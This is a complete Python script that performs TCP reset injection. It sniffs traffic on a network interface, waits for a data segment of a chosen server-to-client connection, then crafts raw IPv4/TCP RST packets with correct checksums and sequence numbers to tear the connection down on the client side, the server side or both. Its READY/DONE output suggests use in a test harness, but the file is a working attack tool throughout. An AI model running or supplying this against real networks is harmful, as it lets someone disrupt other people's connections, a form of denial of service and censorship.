"""Forges a reset into a running connection: watches IFACE for a segment of SERVER:PORT to CLIENT:PORT, then
sends an RST with that sequence number to the client (and one to the server), with a TTL of its own.

usage: reset.py IFACE_TO_CLIENT IFACE_TO_SERVER CLIENT CLIENT_PORT SERVER SERVER_PORT client|both
"""
import socket
import struct
import sys

to_client, to_server, client, cport, server, sport, whom = sys.argv[1:8]
cport, sport = int(cport), int(sport)


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def reset(src, dst, sp, dp, seq):
    s, d = socket.inet_aton(src), socket.inet_aton(dst)
    tcp = struct.pack("!HHIIBBHHH", sp, dp, seq, 0, 5 << 4, 4, 0, 0, 0)
    tcp = tcp[:16] + struct.pack("!H", checksum(s + d + struct.pack("!BBH", 0, 6, 20) + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0xBEEF, 0, 128, 6, 0, s, d)
    return ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:] + tcp


tap = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0003))
tap.bind((to_client, 0x0003))
out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
print("READY", flush=True)
while True:
    p = tap.recv(65535)
    ihl = (p[0] & 15) * 4
    if p[0] >> 4 != 4 or p[9] != 6 or socket.inet_ntoa(p[12:16]) != server or socket.inet_ntoa(p[16:20]) != client:
        continue
    sp, dp, seq, ack, off = struct.unpack("!HHIIB", p[ihl:ihl + 13])
    length = struct.unpack("!H", p[2:4])[0] - ihl - (off >> 4) * 4
    if (sp, dp) != (sport, cport) or length == 0:
        continue
    out.sendto(reset(server, client, sport, cport, seq + length), (client, 0))
    if whom == "both":
        out.sendto(reset(client, server, cport, sport, ack), (server, 0))
    print("DONE", flush=True)
    break
